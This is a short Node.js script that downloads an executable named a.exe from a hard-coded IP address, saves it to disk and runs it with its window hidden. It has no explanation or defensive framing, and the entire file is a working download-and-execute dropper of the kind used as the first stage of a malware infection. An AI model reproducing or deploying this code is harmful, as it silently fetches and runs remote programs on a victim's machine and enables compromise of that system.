const fs = require('fs');
const { exec } = require('child_process');

async function fetched(url, path) {
  const answer = await fetch(url);
  if (answer.status === 200) {
    fs.writeFileSync(path, Buffer.from(await answer.arrayBuffer()));
    return true;
  } else {
    return false;
  }
}

async function main() {
  if (await fetched('http://192.0.2.7/a.exe', 'a.exe')) {
    exec('a.exe', { windowsHide: true });
  }
}

main();
